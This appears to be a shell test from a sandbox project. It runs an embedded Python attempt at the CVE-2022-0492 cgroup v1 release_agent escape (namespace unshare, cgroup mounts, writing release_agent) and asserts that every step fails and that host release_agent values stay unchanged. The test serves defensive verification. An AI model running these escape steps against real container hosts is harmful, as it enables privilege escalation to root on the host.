#!/bin/bash
# Attack: CVE-2022-0492, the cgroup v1 release_agent escape: make a user,
# mount and cgroup namespace, mount a v1 hierarchy (rdma), set
# release_agent to a program of ours and notify_on_release, then empty the
# cgroup: the kernel runs the agent as root on the host. The sandbox runs
# each step in order and reports how far it got. Judged from outside: it
# never got to write release_agent, and every host hierarchy's
# release_agent is what it was.
. "$(dirname "$0")/../helpers/lib.sh"
. "$(dirname "$0")/common.sh"

sandbox_must_work
declare -A before
for f in /sys/fs/cgroup/*/release_agent; do [ -e "$f" ] && before[$f]=$(cat "$f" 2>/dev/null); done

read -r -d '' CODE <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def step(name, r):
    print(name, "OK" if r == 0 else ctypes.get_errno(), flush=True)
    return r == 0
# CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP
if not step("unshare", libc.unshare(0x10000000 | 0x00020000 | 0x02000000)):
    # Also try from where we are, in case we already hold the capability.
    pass
os.makedirs("/tmp/cg", exist_ok=True)
for ctrl in (b"rdma", b"memory", b"pids", b"none,name=x"):
    if step("mount-" + ctrl.decode(), libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, ctrl)):
        try:
            with open("/tmp/cg/release_agent", "w") as f:
                f.write("/tmp/ward-pwn")
            print("release_agent OK")
        except OSError as e:
            print("release_agent", e.__class__.__name__)
        break
print("done")
PY
run_sb -- /usr/bin/python3 -c "$CODE"
expect_document
expect_match "the attack ran" "$SOUT" $'\n''done'
expect_no_match "a cgroup v1 hierarchy was mounted" "$SOUT" 'mount-[a-z,=]+ OK'
expect_no_match "release_agent written" "$SOUT" 'release_agent OK'
for f in "${!before[@]}"; do
  expect_eq "host $f" "$(cat "$f" 2>/dev/null)" "${before[$f]}"
done

done_testing
